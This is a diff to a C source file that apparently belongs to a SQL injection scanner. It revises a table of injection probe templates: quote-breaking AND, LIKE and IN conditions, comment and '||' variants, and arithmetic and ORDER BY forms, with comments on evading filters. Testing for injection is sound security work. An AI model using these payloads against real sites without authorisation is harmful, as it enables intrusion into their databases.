@@ -5,9 +5,10 @@
  * alone if they become part of a statement; `invalid` has an unknown word in the place of an
  * operator or operand, and `broken` is `again` with a blank in the place of one quote or
  * parenthesis: the same words and numbers, and as long, so that no search engine, filter or cast
- * tells them apart, and no database can read it. It is injection when valid and again give the
- * original's page, and invalid and broken do not. valid is never shorter than invalid: a page
- * that cuts values must not look like a database.
+ * tells them apart, and no database can read it. again has a blank too: to WordPress a blank
+ * makes two tags of one, while it drops all the signs of '||'. It is injection when valid and again
+ * give the original's page, and invalid and broken do not. valid is never shorter than invalid: a
+ * page that cuts values must not look like a database.
  *
  * AND stands without blanks where it can, so that filters of blanks do not matter. || is OR to
  * MySQL: it is asked only after adjacent literals, which MySQL joins, and only with empty ones,
@@ -44,34 +45,35 @@ enum {
 };
 
 static const struct form forms[FORMS] = {
-	[SINGLE] = { "' AND", "'AND'#w'='#w", "'#w'#1'='#1", "'AND'#2'LIKE'#2", "'AND'#2'LIKE #2" },
+	[SINGLE] = { "' AND", "'AND'#w'='#w", "'#w'#1'='#1", "'AND'#2'LIKE '#2",
+		     "'AND'#2'LIKE  #2" },
 	[SINGLE_JOIN] = { "' '", "'\n''\n''\n''\n'", "'\n#w'", "'\n''\n'", "'\n''\n\n" },
-	[SINGLE_REMARK] = { "'/**/'", "'/**/''/**/''/**/'", "'/**/#w'", "'/**/''/**/'",
-			    "'/**/''/* */" },
-	[SINGLE_PIPES] = { "'||'", "'||''||''||''||'", "'|#w|'", "'||''||'", "'||''|| " },
-	[SINGLE_1] = { "') AND", "')AND('#w'='#w", "')#w('#1'='#1", "')AND('#2'LIKE'#2",
-		       "')AND('#2'LIKE #2" },
-	[SINGLE_2] = { "')) AND", "'))AND(('#w'='#w", "'))#w(('#1'='#1", "'))AND(('#2'LIKE'#2",
-		       "'))AND(('#2'LIKE #2" },
-	[DOUBLE] = { "\" AND", "\"AND\"#w\"=\"#w", "\"#w\"#1\"=\"#1", "\"AND\"#2\"LIKE\"#2",
-		     "\"AND\"#2\"LIKE #2" },
+	[SINGLE_REMARK] = { "'/**/'", "'/**/''/**/''/**/'", "'/**/#w'", "'/* */''/**/'",
+			    "'/* */''/* */" },
+	[SINGLE_PIPES] = { "'||'", "'||''||''||''||'", "'|#w|'", "'|| ''||'", "'|| ''|| " },
+	[SINGLE_1] = { "') AND", "')AND('#w'='#w", "')#w('#1'='#1", "')AND('#2'LIKE '#2",
+		       "')AND('#2'LIKE  #2" },
+	[SINGLE_2] = { "')) AND", "'))AND(('#w'='#w", "'))#w(('#1'='#1", "'))AND(('#2'LIKE '#2",
+		       "'))AND(('#2'LIKE  #2" },
+	[DOUBLE] = { "\" AND", "\"AND\"#w\"=\"#w", "\"#w\"#1\"=\"#1", "\"AND\"#2\"LIKE \"#2",
+		     "\"AND\"#2\"LIKE  #2" },
 	[DOUBLE_JOIN] = { "\" \"", "\"\n\"\"\n\"\"\n\"\"\n\"", "\"\n#w\"", "\"\n\"\"\n\"",
 			  "\"\n\"\"\n\n" },
 	[DOUBLE_REMARK] = { "\"/**/\"", "\"/**/\"\"/**/\"\"/**/\"", "\"/**/#w\"",
-			    "\"/**/\"\"/**/\"", "\"/**/\"\"/* */" },
-	[DOUBLE_PIPES] = { "\"||\"", "\"||\"\"||\"\"||\"\"||\"", "\"|#w|\"", "\"||\"\"||\"",
-			   "\"||\"\"|| " },
+			    "\"/* */\"\"/**/\"", "\"/* */\"\"/* */" },
+	[DOUBLE_PIPES] = { "\"||\"", "\"||\"\"||\"\"||\"\"||\"", "\"|#w|\"", "\"|| \"\"||\"",
+			   "\"|| \"\"|| " },
 	[DOUBLE_1] = { "\") AND", "\")AND(\"#w\"=\"#w", "\")#w(\"#1\"=\"#1",
-		       "\")AND(\"#2\"LIKE\"#2", "\")AND(\"#2\"LIKE #2" },
+		       "\")AND(\"#2\"LIKE \"#2", "\")AND(\"#2\"LIKE  #2" },
 	[DOUBLE_2] = { "\")) AND", "\"))AND((\"#w\"=\"#w", "\"))#w((\"#1\"=\"#1",
-		       "\"))AND((\"#2\"LIKE\"#2", "\"))AND((\"#2\"LIKE #2" },
+		       "\"))AND((\"#2\"LIKE \"#2", "\"))AND((\"#2\"LIKE  #2" },
 	[NUMBER] = { "AND", " AND #1#1=#1#1", " #w #1=#1", " AND #2 IN (#2)", " AND #2 IN  #2)" },
 	[NUMBER_1] = { ") AND", ") AND (#1#1=#1#1", ") #w (#1=#1", ") AND (#2 IN (#2)",
 		       ") AND (#2 IN  #2)" },
-	[NUMBER_SUM] = { "arithmetic", "+#1#1-#1#1", "+#1-#w", "-(#2-#2)", "-(#2-#2 " },
-	[ORDER] = { "list", ",(#1#1-#2)", ",(#1-#w)", ",(#2-(#1))", ",(#2- #1))" },
-	[ORDER_TICK] = { "` list", "`,(#1#1-#2),`#v", "`,(#1-#w),`#v", "`,(#2-(#1)),`#v",
-			 "`,(#2- #1)),`#v" },
+	[NUMBER_SUM] = { "arithmetic", "+#1#1-#1#1", "+#1-#w", "-(#2- #2)", "-(#2- #2 " },
+	[ORDER] = { "list", ",(#1#1-#2)", ",(#1-#w)", ",(#2- (#1))", ",(#2-  #1))" },
+	[ORDER_TICK] = { "` list", "`,(#1#1-#2),`#v", "`,(#1-#w),`#v", "`,(#2- (#1)),`#v",
+			 "`,(#2-  #1)),`#v" },
 };
 
 /* In which order, by what the value is and how the page takes it. END ends each. */
